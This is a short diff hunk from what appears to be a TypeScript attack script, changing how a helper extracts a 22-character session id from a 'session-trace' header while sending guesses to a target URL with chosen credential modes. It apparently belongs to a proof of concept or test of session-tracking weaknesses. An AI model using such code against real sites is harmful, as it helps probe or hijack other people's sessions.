@@ -102,7 +102,7 @@ async function attack(url: string, { page, attacker, guesses }: Attack) {
 async function tryGuesses({ url, path, guesses }: { url: string; path: string; guesses: string[] }) {
   const idOf = async (address: string, credentials: RequestCredentials) => {
     const { headers } = await fetch(url + address, { credentials, cache: "no-store" });
-    return headers.get("session-trace")?.split("id=")[1] ?? "no id";
+    return /id=([\w-]{22})/.exec(headers.get("session-trace") ?? "")?.[1] ?? "no id";
   };
   const call = (name: string, body: object) =>
     fetch(`${url}${path}${name}`, {
